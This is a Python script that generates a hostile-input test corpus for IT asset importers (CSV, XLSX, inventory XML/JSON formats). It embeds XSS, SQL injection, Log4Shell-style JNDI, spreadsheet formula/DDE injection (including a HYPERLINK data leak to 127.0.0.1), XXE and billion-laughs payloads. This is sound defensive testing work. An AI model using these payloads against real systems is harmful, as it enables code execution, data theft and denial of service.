#!/usr/bin/env python3
"""Writes the committed (small) part of the hostile-input corpus.

Every case is a file under tests/hostile-corpus/<importer>/ plus one row in that folder's
cases.tsv: file, expected outcome, flags, what the case is about. The test bundle
org.origo.hostile.tests reads the tables; huge cases are produced at test time by ../generate.

Run from anywhere: python3 tests/hostile-corpus/tools/write_corpus.py
The output is deterministic (seeded), so re-running it gives the same bytes.
"""
import io
import json
import os
import random
import zipfile

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
FOLDERS = ["csv", "xlsx", "glpi", "ocs", "dmidecode", "lshw", "cpuinfo", "winreg", "packages", "cyclonedx", "archive"]

HTML = [
    "<script>alert('origo')</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(document.cookie)>",
    "javascript:alert(1)",
    "</td></tr></table><iframe src=//127.0.0.1>",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://127.0.0.1/a}",
    "'; DROP TABLE assets;--",
]
INJECTION = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://127.0.0.1/?leak=\"&A1,\"open\")",
    "\t=1+1",
    "\r=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
]
ODD_TEXT = [
    "\u202eexe.txt",  # right-to-left override
    "zero\u200bwidth\ufeffjoin",
    "ctrl\u0001\u0007\u001b[31mred",
    "emoji \U0001F4A3 and \u4e2d\u6587",
    "A" * 5000,
]

cases = {f: [] for f in FOLDERS}


def put(folder, name, data, expect, note, flags="-"):
    path = os.path.join(ROOT, folder, name)
    if isinstance(data, str):
        data = data.encode("utf-8")
    assert len(data) < 1_000_000, name
    with open(path, "wb") as f:
        f.write(data)
    cases[folder].append((name, expect, flags, note))


def rnd(seed, n):
    r = random.Random(seed)
    return bytes(r.getrandbits(8) for _ in range(n))


# ---------------------------------------------------------------- valid documents

CSV_HEADER = ["hostname", "serial", "manufacturer", "model", "cpu", "os", "department", "owner", "software"]
CSV_ROWS = [
    ["PC-001", "SN0001", "Lenovo", "ThinkCentre M720", "Intel(R) Core(TM) i5-8500 CPU @ 3.00GHz",
     "Microsoft Windows 10 Pro", "Finance", "Wang Wei", "Microsoft|Office|2016;Kingsoft|WPS Office|11.1"],
    ["PC-002", "SN0002", "Dell Inc.", "OptiPlex 7070", "Intel(R) Core(TM) i7-9700 CPU @ 3.00GHz",
     "Microsoft Windows 11 Pro", "HR", "Li Na", "Microsoft|Edge|120"],
    ["PC-003", "SN0003", "Tongfang", "Chaoxiang Q770", "Phytium,D2000/8",
     "Kylin Linux Advanced Server V10 (Sword)", "IT", "Zhao Lei", "Kingsoft|WPS Office|11.8"],
]


def csv_text(rows, header=CSV_HEADER, sep=",", eol="\n"):
    def q(v):
        if any(c in v for c in [sep, '"', "\n", "\r"]):
            return '"' + v.replace('"', '""') + '"'
        return v
    return eol.join(sep.join(q(v) for v in r) for r in [header] + rows) + eol


def glpi_doc(texts=None):
    t = texts or {}
    g = lambda k, d: t.get(k, d)
    return {
        "action": "inventory",
        "deviceid": g("deviceid", "pc-001-2024-01-01-00-00-00"),
        "itemtype": "Computer",
        "content": {
            "bios": {"smanufacturer": g("smanufacturer", "LENOVO"), "smodel": g("smodel", "10MQS0AT00"),
                     "ssn": g("ssn", "PC0ABCDE"), "bmanufacturer": g("bmanufacturer", "LENOVO"),
                     "bversion": g("bversion", "M1UKT4BA")},
            "hardware": {"name": g("name", "PC-001"), "uuid": g("uuid", "1f2e3d4c-5b6a-4798-8a7b-6c5d4e3f2a1b"),
                         "chassis_type": g("chassis_type", "Desktop")},
            "cpus": [{"manufacturer": g("cpumanufacturer", "Intel"), "name": g("cpuname", "Intel(R) Core(TM) i5-8500 CPU @ 3.00GHz"),
                      "core": 6, "arch": "x86_64"}],
            "operatingsystem": {"full_name": g("osname", "Microsoft Windows 10 Pro"), "version": g("osversion", "22H2"),
                                "arch": "64-bit"},
            "softwares": [{"name": g("softname", "WPS Office"), "publisher": g("publisher", "Kingsoft"),
                           "version": g("softversion", "11.1.0")}],
        },
    }


def ocs_doc(texts=None, prolog='<?xml version="1.0" encoding="UTF-8"?>\n', extra=""):
    t = texts or {}
    g = lambda k, d: xml_escape(t.get(k, d))
    return (prolog + "<REQUEST>\n  <CONTENT>\n"
            f"    <BIOS>\n      <SMANUFACTURER>{g('smanufacturer', 'Dell Inc.')}</SMANUFACTURER>\n"
            f"      <SMODEL>{g('smodel', 'OptiPlex 7070')}</SMODEL>\n      <SSN>{g('ssn', 'ABC1234')}</SSN>\n"
            f"      <BMANUFACTURER>{g('bmanufacturer', 'Dell Inc.')}</BMANUFACTURER>\n      <BVERSION>1.2.3</BVERSION>\n    </BIOS>\n"
            f"    <HARDWARE>\n      <NAME>{g('name', 'PC-002')}</NAME>\n      <UUID>4c4c4544-0042-3010-8052-b7c04f4e3232</UUID>\n"
            f"      <OSNAME>{g('osname', 'Microsoft Windows 11 Pro')}</OSNAME>\n      <OSVERSION>10.0.22631</OSVERSION>\n"
            f"      <CHASSIS_TYPE>Desktop</CHASSIS_TYPE>\n    </HARDWARE>\n"
            f"    <CPUS>\n      <NAME>{g('cpuname', 'Intel(R) Core(TM) i7-9700 CPU @ 3.00GHz')}</NAME>\n"
            f"      <MANUFACTURER>{g('cpumanufacturer', 'Intel')}</MANUFACTURER>\n      <CORE>8</CORE>\n    </CPUS>\n"
            f"    <SOFTWARES>\n      <NAME>{g('softname', 'Microsoft Edge')}</NAME>\n      <PUBLISHER>{g('publisher', 'Microsoft Corporation')}</PUBLISHER>\n"
            f"      <VERSION>{g('softversion', '120.0')}</VERSION>\n    </SOFTWARES>\n{extra}"
            "  </CONTENT>\n  <DEVICEID>pc-002-2024-01-01-00-00-00</DEVICEID>\n  <QUERY>INVENTORY</QUERY>\n</REQUEST>\n")


def xml_escape(s):
    return (s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
            .replace("\r", "&#13;").replace("\t", "&#9;"))


def xml_safe(s):
    """Drops characters XML 1.0 cannot carry at all."""
    return "".join(c for c in s if c in "\t\n\r" or ord(c) >= 0x20)


def dmi_text(t=None):
    t = t or {}
    g = lambda k, d: t.get(k, d)
    return ("# dmidecode 3.3\nGetting SMBIOS data from sysfs.\nSMBIOS 3.1.1 present.\n\n"
            "Handle 0x0000, DMI type 0, 26 bytes\nBIOS Information\n"
            f"\tVendor: {g('bvendor', 'American Megatrends Inc.')}\n\tVersion: {g('bversion', '1.40')}\n\tRelease Date: 03/15/2019\n\n"
            "Handle 0x0001, DMI type 1, 27 bytes\nSystem Information\n"
            f"\tManufacturer: {g('manufacturer', 'Inspur')}\n\tProduct Name: {g('product', 'NF5280M5')}\n"
            f"\tVersion: {g('version', '0')}\n\tSerial Number: {g('serial', '219235678')}\n"
            "\tUUID: 4b6a2f10-7c3e-11e9-8000-3cd2e4a1b2c3\n\tSKU Number: Default string\n\tFamily: Server\n\n"
            "Handle 0x0002, DMI type 3, 22 bytes\nChassis Information\n"
            f"\tManufacturer: {g('manufacturer', 'Inspur')}\n\tType: Rack Mount Chassis\n\n"
            "Handle 0x0004, DMI type 4, 48 bytes\nProcessor Information\n\tSocket Designation: CPU0\n\tType: Central Processor\n"
            f"\tManufacturer: {g('cpuvendor', 'Intel(R) Corporation')}\n\tID: 54 06 05 00 FF FB EB BF\n"
            f"\tVersion: {g('cpu', 'Intel(R) Xeon(R) Gold 5118 CPU @ 2.30GHz')}\n\tCore Count: 12\n\tThread Count: 24\n\n"
            "Handle 0x0005, DMI type 2, 15 bytes\nBase Board Information\n"
            f"\tManufacturer: {g('board', 'Inspur')}\n\tProduct Name: YZMB-00882-101\n\n")


def lshw_doc(t=None):
    t = t or {}
    g = lambda k, d: t.get(k, d)
    return {
        "id": g("id", "kylin-srv-01"), "class": "system", "claimed": True, "description": g("description", "Rack Mount Chassis"),
        "product": g("product", "TaiShan 200 (Model 2280)"), "vendor": g("vendor", "Huawei"), "serial": g("serial", "2102312TYS10K9000123"),
        "width": 64,
        "configuration": {"boot": "normal", "uuid": "8e3a6f10-1d2b-11eb-8000-a4c64f7d5e01"},
        "children": [{"id": "core", "class": "bus", "description": "Motherboard", "product": g("board", "BC82AMDDA"),
                      "vendor": g("vendor", "Huawei"),
                      "children": [
                          {"id": "cpu:0", "class": "processor", "product": g("cpu", "Kunpeng 920-4826"), "physid": "c",
                           "description": "CPU", "configuration": {"cores": "48"}},
                          {"id": "firmware", "class": "memory", "description": "BIOS", "vendor": g("bvendor", "Huawei Corp."),
                           "version": g("bversion", "1.35")},
                          {"id": "network", "class": "network", "product": g("nic", "Hi1822 Family"),
                           "vendor": g("nicvendor", "Huawei Technologies Co., Ltd."), "businfo": "pci@0000:01:00.0"},
                      ]}],
    }


def reg_text(entries):
    out = ["Windows Registry Editor Version 5.00", ""]
    for i, (name, pub, ver) in enumerate(entries):
        out.append(f"[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\{{0000000{i}-1111-2222-3333-444444444444}}]")
        out.append(f"\"DisplayName\"=\"{reg_escape(name)}\"")
        out.append(f"\"Publisher\"=\"{reg_escape(pub)}\"")
        out.append(f"\"DisplayVersion\"=\"{reg_escape(ver)}\"")
        out.append("")
    return "\r\n".join(out) + "\r\n"


def reg_escape(s):
    return s.replace("\\", "\\\\").replace('"', '\\"')


def utf16(s):
    return b"\xff\xfe" + s.encode("utf-16-le")


REG_ENTRIES = [("Microsoft Office Professional Plus 2016", "Microsoft Corporation", "16.0.4266.1001"),
               ("WPS Office (11.1.0.11194)", "Kingsoft Corp.", "11.1.0.11194"),
               ("Google Chrome", "Google LLC", "120.0.6099.130")]


def dpkg_text(rows):
    return "".join("\t".join(r) + "\n" for r in rows)


DPKG_ROWS = [["adduser", "all", "3.118", "849", "admin"], ["libreoffice-core", "amd64", "1:7.0.4-4", "98765", "editors"],
             ["wps-office", "amd64", "11.1.0.11664", "1200000", "editors"], ["openssh-server", "amd64", "1:8.4p1-5", "1486", "net"]]
RPM_ROWS = [["kylin-release", "x86_64", "10-24.6.p144.ky10", "1616000000", "45000", "KylinSoft", "Kylin release file", "System Environment/Base"],
            ["bash", "x86_64", "5.0-18.ky10", "1616000000", "6200000", "KylinSoft", "The GNU Bourne Again shell", "System Environment/Shells"]]


def cdx_doc(t=None):
    t = t or {}
    g = lambda k, d: t.get(k, d)
    return {
        "bomFormat": "CycloneDX", "specVersion": "1.5", "version": 1,
        "serialNumber": "urn:uuid:3e671687-395b-41f5-a30f-a58921a69b79",
        "metadata": {"component": {"type": "device", "name": g("name", "PC-004"),
                                   "manufacturer": {"name": g("manufacturer", "Huawei")},
                                   "supplier": {"name": g("supplier", "Huawei Technologies")},
                                   "version": g("model", "QingYun W515x")}},
        "components": [
            {"type": "device", "name": g("cpu", "Kirin 9006C"), "manufacturer": {"name": g("cpuvendor", "HiSilicon")}},
            {"type": "firmware", "name": g("firmware", "UEFI"), "version": g("fwversion", "1.03"),
             "supplier": {"name": g("fwvendor", "Huawei")}},
            {"type": "operating-system", "name": g("os", "UOS Desktop"), "version": g("osversion", "20 Professional"),
             "supplier": {"name": g("ospublisher", "UnionTech")}},
            {"type": "application", "name": g("app", "WPS Office"), "version": g("appversion", "11.8.2"),
             "publisher": g("apppublisher", "Kingsoft")},
        ],
    }


def js(o, indent=2):
    if indent is None:
        return json.dumps(o, ensure_ascii=False, separators=(",", ":")) + "\n"
    return json.dumps(o, indent=indent, ensure_ascii=False) + "\n"


# ---------------------------------------------------------------- xlsx

def xlsx(rows, shared=True, extra=None, sheet_xml=None, sst_xml=None, workbook_xml=None, drop=(), rels_xml=None,
         names=None):
    """A minimal workbook; any part can be replaced with hostile XML."""
    strings, index = [], {}

    def si(v):
        if v not in index:
            index[v] = len(strings)
            strings.append(v)
        return index[v]

    def col(i):
        s = ""
        i += 1
        while i:
            i, r = divmod(i - 1, 26)
            s = chr(65 + r) + s
        return s

    if sheet_xml is None:
        body = []
        for r, row in enumerate(rows, 1):
            cells = []
            for c, v in enumerate(row):
                ref = f"{col(c)}{r}"
                if shared:
                    cells.append(f'<c r="{ref}" t="s"><v>{si(v)}</v></c>')
                else:
                    cells.append(f'<c r="{ref}" t="inlineStr"><is><t>{xml_escape(xml_safe(v))}</t></is></c>')
            body.append(f'<row r="{r}">{"".join(cells)}</row>')
        sheet_xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                     '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                     f'<sheetData>{"".join(body)}</sheetData></worksheet>')
    if sst_xml is None:
        sst_xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                   f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="{len(strings)}" uniqueCount="{len(strings)}">'
                   + "".join(f'<si><t xml:space="preserve">{xml_escape(xml_safe(s))}</t></si>' for s in strings) + "</sst>")
    if workbook_xml is None:
        workbook_xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                        '<sheets><sheet name="Assets" sheetId="1" r:id="rId1"/></sheets></workbook>')
    parts = {
        "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        '</Types>',
        "_rels/.rels": '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
        '</Relationships>',
        "xl/workbook.xml": workbook_xml,
        "xl/_rels/workbook.xml.rels": rels_xml or ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
        '</Relationships>'),
        "xl/worksheets/sheet1.xml": sheet_xml,
        "xl/sharedStrings.xml": sst_xml,
    }
    for d in drop:
        parts.pop(d, None)
    if extra:
        parts.update(extra)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for n, data in parts.items():
            info = zipfile.ZipInfo((names or {}).get(n, n), date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data if isinstance(data, bytes) else data.encode("utf-8"))
    return buf.getvalue()


def zip_of(entries, method=zipfile.ZIP_DEFLATED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for n, data in entries:
            info = zipfile.ZipInfo(n, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = method
            z.writestr(info, data if isinstance(data, bytes) else data.encode("utf-8"))
    return buf.getvalue()


# ---------------------------------------------------------------- XML attacks (shared by OCS and XLSX)

def xxe_file(root_open, root_close, inner_tag):
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<!DOCTYPE r [ <!ENTITY xxe SYSTEM "@SECRET_URI@"> ]>\n'
            f'{root_open}<{inner_tag}>&xxe;</{inner_tag}>{root_close}')


BILLION_LAUGHS_DTD = ('<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
                      + "".join(f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10))
                      + "]>\n")


# ---------------------------------------------------------------- generic cases for every text format

def generic(folder, ext, valid: bytes, text_fields_html: bytes, text_fields_inj: bytes, line_based: bool):
    """The cases every text importer gets; `valid` is a clean document of the format."""
    put(folder, f"valid{ext}", valid, "clean", "control case: a well-formed document", "assets>=1")
    put(folder, f"empty{ext}", b"", "either", "zero bytes")
    put(folder, f"bom-only{ext}", b"\xef\xbb\xbf", "either", "only a UTF-8 byte order mark")
    put(folder, f"utf16-bom-only{ext}", b"\xff\xfe", "either", "only a UTF-16LE byte order mark")
    put(folder, f"whitespace{ext}", b" \t\r\n" * 200, "either", "blanks and line ends only")
    put(folder, f"nul-bytes{ext}", b"\0" * 4096, "either", "4 KiB of NUL bytes")
    put(folder, f"garbage-random{ext}", rnd(folder + "1", 65536), "either", "64 KiB of random bytes")
    put(folder, f"garbage-high{ext}", bytes(range(0x80, 0x100)) * 64, "either", "every high byte, repeated")
    put(folder, f"garbage-prefix{ext}", rnd(folder + "2", 512) + valid, "either", "random bytes before a valid document")
    put(folder, f"garbage-suffix{ext}", valid + rnd(folder + "3", 512), "either", "random bytes after a valid document")
    for frac in (0.5, 0.9):
        put(folder, f"truncated-{int(frac * 100)}{ext}", valid[: int(len(valid) * frac)],
            "either" if line_based else "error", f"valid document cut at {int(frac * 100)} %")
    put(folder, f"truncated-1{ext}", valid[:1], "either", "first byte only")
    put(folder, f"html-everywhere{ext}", text_fields_html, "clean", "HTML/JS in every text field; kept as text", "assets>=1;html")
    put(folder, f"injection-everywhere{ext}", text_fields_inj, "clean", "spreadsheet formula payloads in every text field", "assets>=1")
    put(folder, f"utf16le-nobom{ext}", valid.decode("utf-8", "replace").encode("utf-16-le"), "either", "UTF-16LE without a byte order mark")
    put(folder, f"utf16be-bom{ext}", b"\xfe\xff" + valid.decode("utf-8", "replace").encode("utf-16-be"), "either", "UTF-16BE with a byte order mark")
    put(folder, f"utf32{ext}", b"\xff\xfe\0\0" + valid.decode("utf-8", "replace").encode("utf-32-le"), "either", "UTF-32LE, which no importer promises")
    half = len(valid) // 2
    put(folder, f"mixed-gbk{ext}", valid[:half] + "联想集团 英特尔".encode("gbk") + valid[half:], "either", "GBK bytes spliced into UTF-8")
    put(folder, f"invalid-utf8{ext}", valid[:half] + b"\xc0\xaf\xed\xa0\x80\xf8\x88\x80\x80\x80\x80" + valid[half:], "either",
        "overlong, surrogate and 5-byte UTF-8 sequences mid-document")
    put(folder, f"cr-only{ext}", valid.replace(b"\r\n", b"\n").replace(b"\n", b"\r"), "either", "classic Mac line ends")
    put(folder, f"nul-inside{ext}", valid[:half] + b"\0\0\0" + valid[half:], "either", "NUL bytes in the middle")
    put(folder, f"long-line{ext}", valid[:half] + b"X" * 200_000 + valid[half:], "either", "a 200 KB run without a line end", "heap=256")


# ---------------------------------------------------------------- CSV

def build_csv():
    f = "csv"
    valid = csv_text(CSV_ROWS).encode()
    html_rows = [[r[0]] + [HTML[(i + j) % len(HTML)] for j, _ in enumerate(r[1:])] for i, r in enumerate(CSV_ROWS)]
    inj_rows = [[r[0]] + [INJECTION[(i + j) % len(INJECTION)] for j, _ in enumerate(r[1:])] for i, r in enumerate(CSV_ROWS)]
    generic(f, ".csv", valid, csv_text(html_rows).encode(), csv_text(inj_rows).encode(), True)
    put(f, "header-only.csv", (",".join(CSV_HEADER) + "\n").encode(), "either", "a header and no rows")
    long_row = ["h" * 5000, "S" * 6000] + CSV_ROWS[0][2:]
    put(f, "identity-5k.csv", csv_text(CSV_ROWS + [long_row]).encode(), "clean",
        "a 5 000-character host name and a 6 000-character serial: dropped as identities with a warning",
        "assets>=4;warns=is not used as an identity")
    put(f, "unmapped-header.csv", b"alpha,beta,gamma\n1,2,3\n", "either", "no column maps to an asset field")
    put(f, "unterminated-quote.csv", (",".join(CSV_HEADER) + '\nPC-9,"SN9,Lenovo\n' + "x,y\n" * 2000).encode(), "either",
        "a quote opened and never closed: must not swallow the file silently")
    put(f, "quote-in-unquoted.csv", (",".join(CSV_HEADER) + '\nPC-9,SN"9,Le"novo,M,C,O,D,W,\n').encode(), "either", "stray quotes inside unquoted fields")
    put(f, "ragged-rows.csv", (",".join(CSV_HEADER) + "\nPC-1\nPC-2,SN2,Dell,,,,,,,,,,,,,,,,,\n,,,,\n").encode(), "either", "rows shorter and longer than the header")
    put(f, "duplicate-headers.csv", (",".join(CSV_HEADER + ["serial", "serial"]) + "\n" + ",".join(CSV_ROWS[0] + ["X", "Y"]) + "\n").encode(),
        "either", "the same column three times")
    put(f, "blank-header-cells.csv", (",,," + "\n" + ",".join(CSV_ROWS[0]) + "\n").encode(), "either", "a header of empty cells")
    put(f, "many-columns.csv", (",".join(f"c{i}" for i in range(20000)) + "\n" + ",".join("v" for _ in range(20000)) + "\n").encode(),
        "either", "20 000 columns", "heap=256")
    put(f, "many-rows.csv", csv_text([[f"PC-{i}", f"SN{i:06d}", "Lenovo", "M720", "Intel", "Windows 10", "D", "O", ""] for i in range(8000)]).encode(),
        "clean", "8 000 rows", "assets>=8000")
    put(f, "semicolon-injection.csv", csv_text(inj_rows, sep=";").encode(), "clean", "formula payloads, semicolon separated", "assets>=1")
    put(f, "tab-injection.tsv", csv_text(inj_rows, sep="\t").encode(), "clean", "formula payloads, tab separated", "assets>=1")
    put(f, "gb18030.csv", csv_text([["电脑-1", "序列1", "联想", "启天M428", "兆芯 KX-6000", "统信 UOS", "财务科", "王伟", ""]],
                                   header=["主机名", "序列号", "厂商", "型号", "处理器", "操作系统", "部门", "使用人", "软件"]).encode("gb18030"),
        "clean", "Chinese headers in GB18030", "assets>=1")
    put(f, "gb18030-declared-utf8-bom.csv", b"\xef\xbb\xbf" + "主机名,序列号\n电脑,序列\n".encode("gb18030"), "either",
        "UTF-8 BOM followed by GB18030 bytes")
    put(f, "windows1252-smart-quotes.csv", csv_text([["PC-1", "SN1", "Société Générale", "M", "C", "O", "Département", "Zoë", ""]]).encode("cp1252") + b"\x93quoted\x94\n",
        "either", "Windows-1252 with smart quotes")
    put(f, "nested-quotes.csv", (",".join(CSV_HEADER) + '\n"PC-1","""""""""","""=1+1""",,,,,,\n').encode(), "either", "runs of doubled quotes")
    put(f, "embedded-newlines.csv", (",".join(CSV_HEADER) + '\n"PC-1\n\n\n","SN\r\n1","a\rb",,,,,,\n').encode(), "either", "line ends inside quoted fields")
    put(f, "software-column-hostile.csv", csv_text([["PC-1", "SN1", "Lenovo", "M", "C", "O", "D", "O",
                                                    "||||;;;;|" + ";".join("|".join([HTML[0], INJECTION[0], "9" * 500]) for _ in range(200))]]).encode(),
        "clean", "the software column full of separators, HTML and formulas", "assets>=1")
    put(f, "odd-text.csv", csv_text([["PC-1"] + ODD_TEXT + ["", "", "", ""]]).encode(), "clean", "bidi override, zero-width, ANSI escapes, 5 000 A", "assets>=1")
    put(f, "excel-damaged.csv", csv_text([["PC-1", "6.37702E+15", "Lenovo", "M", "C", "O", "D", "O", ""], ["PC-2", "1.0E+308", "Dell", "", "", "", "", "", ""],
                                          ["PC-3", "9.9E+99999", "HP", "", "", "", "", "", ""]]).encode(), "either", "scientific-notation serials, one overflowing")
    put(f, "dates-hostile.csv", ("hostname,serial,purchase date\nPC-1,S1,31/02/2020\nPC-2,S2,99999-99-99\nPC-3,S3,2020-13-45\nPC-4,S4,"
                                 + "1" * 400 + "\nPC-5,S5,0000-00-00\n").encode(), "either", "impossible dates")
    put(f, "only-delimiters.csv", (";" * 1000 + "\n") * 50, "either", "lines of separators only")
    put(f, "xlsx-renamed.csv", xlsx([CSV_HEADER] + CSV_ROWS), "either", "an XLSX workbook named .csv")


# ---------------------------------------------------------------- XLSX

def build_xlsx():
    f = "xlsx"
    rows = [CSV_HEADER] + CSV_ROWS
    valid = xlsx(rows)
    put(f, "valid.xlsx", valid, "clean", "control case: a well-formed workbook", "assets>=1")
    put(f, "valid-inline.xlsx", xlsx(rows, shared=False), "clean", "inline strings, no shared-string table", "assets>=1")
    html_rows = [CSV_HEADER] + [[r[0]] + [HTML[(i + j) % len(HTML)] for j, _ in enumerate(r[1:])] for i, r in enumerate(CSV_ROWS)]
    inj_rows = [CSV_HEADER] + [[r[0]] + [INJECTION[(i + j) % len(INJECTION)] for j, _ in enumerate(r[1:])] for i, r in enumerate(CSV_ROWS)]
    put(f, "html-everywhere.xlsx", xlsx(html_rows), "clean", "HTML/JS in every cell", "assets>=1;html")
    put(f, "injection-everywhere.xlsx", xlsx(inj_rows), "clean", "formula payloads as cell text", "assets>=1")
    formula_sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
                     '<row r="1"><c r="A1" t="inlineStr"><is><t>hostname</t></is></c><c r="B1" t="inlineStr"><is><t>serial</t></is></c></row>'
                     '<row r="2"><c r="A2" t="str"><f>cmd|\' /C calc\'!A0</f><v>PC-1</v></c><c r="B2"><f>HYPERLINK("http://127.0.0.1")</f><v>7</v></c></row>'
                     '</sheetData></worksheet>')
    put(f, "formula-cells.xlsx", xlsx(None, sheet_xml=formula_sheet), "either", "real formula cells (cached values only may be used)")
    put(f, "empty.xlsx", b"", "error", "zero bytes", "whole-file")
    put(f, "not-zip.xlsx", b"hostname,serial\nPC-1,SN1\n", "error", "CSV text named .xlsx", "whole-file")
    put(f, "garbage-random.xlsx", rnd("xlsx1", 65536), "error", "random bytes", "whole-file")
    put(f, "pk-header-garbage.xlsx", b"PK\x03\x04" + rnd("xlsx2", 4000), "error", "zip signature then garbage", "whole-file")
    for frac in (0.3, 0.6, 0.95):
        put(f, f"truncated-{int(frac * 100)}.xlsx", valid[: int(len(valid) * frac)], "error", f"workbook cut at {int(frac * 100)} %", "whole-file")
    put(f, "ole-encrypted.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4088, "error", "OLE compound file (encrypted workbook or .xls)", "whole-file")
    put(f, "empty-zip.xlsx", zip_of([]), "error", "a zip with no entries", "whole-file")
    put(f, "no-workbook.xlsx", xlsx(rows, drop=("xl/workbook.xml",)), "error", "workbook part missing", "whole-file")
    put(f, "no-sheet.xlsx", xlsx(rows, drop=("xl/worksheets/sheet1.xml",)), "error", "sheet part missing", "whole-file")
    sheet_head_x = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    sheet_tail_x = '</sheetData></worksheet>'
    put(f, "cell-300k-inline.xlsx", xlsx([CSV_HEADER, ["PC-9", "c" * 300_000] + CSV_ROWS[0][2:]], shared=False), "error",
        "an inline cell of 300 000 characters (limit 256 Ki)", "field=Assets!B2;says=cell B2 in part xl/worksheets/sheet1.xml holds more than")
    put(f, "sst-300k-string.xlsx", xlsx([CSV_HEADER, ["PC-9", "s" * 300_000] + CSV_ROWS[0][2:]]), "error",
        "a shared string of 300 000 characters (limit 256 Ki)", "field=xl/sharedStrings.xml;says=holds more than")
    put(f, "attribute-100k.xlsx", xlsx(None, sheet_xml=sheet_head_x + '<row r="1" spans="' + "1" * 100_000 + '"><c r="A1"><v>1</v></c></row>' + sheet_tail_x),
        "error", "a 100 000-character attribute in the sheet (limit 64 Ki)", "field=xl/worksheets/sheet1.xml;says=attribute 'spans' of element <row>")
    put(f, "identity-5k.xlsx", xlsx([CSV_HEADER] + CSV_ROWS + [["h" * 5000, "S" * 5000] + CSV_ROWS[1][2:]]), "clean",
        "a 5 000-character host name and serial: dropped as identities with a warning", "assets>=4;warns=is not used as an identity")
    put(f, "no-shared-strings.xlsx", xlsx(rows, drop=("xl/sharedStrings.xml",)), "error", "shared strings referenced but missing",
        "field=xl/sharedStrings.xml;says=the part xl/sharedStrings.xml is missing")
    sheet_head = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    sheet_tail = '</sheetData></worksheet>'
    put(f, "sst-index-out-of-range.xlsx", xlsx(None, sheet_xml=sheet_head + '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>999999999</v></c></row>'
                                                 '<row r="2"><c r="A2" t="s"><v>-5</v></c><c r="B2" t="s"><v>99999999999999999999</v></c></row>' + sheet_tail,
                                             sst_xml='<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>hostname</t></si></sst>'),
        "either", "shared-string indexes negative, huge and past the table")
    put(f, "sst-absurd-count.xlsx", xlsx(rows, sst_xml='<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2147483647" uniqueCount="2147483647">'
                                         + "".join(f"<si><t>{xml_escape(v)}</t></si>" for v in sum(rows, [])) + "</sst>"),
        "either", "shared-string table declaring 2^31-1 entries (must not pre-allocate)", "heap=128")
    put(f, "sst-negative-count.xlsx", xlsx(rows, sst_xml='<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="-1" uniqueCount="-99">'
                                           + "".join(f"<si><t>{xml_escape(v)}</t></si>" for v in sum(rows, [])) + "</sst>"), "either", "negative declared counts")
    put(f, "sst-rich-runs.xlsx", xlsx(rows, sst_xml='<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
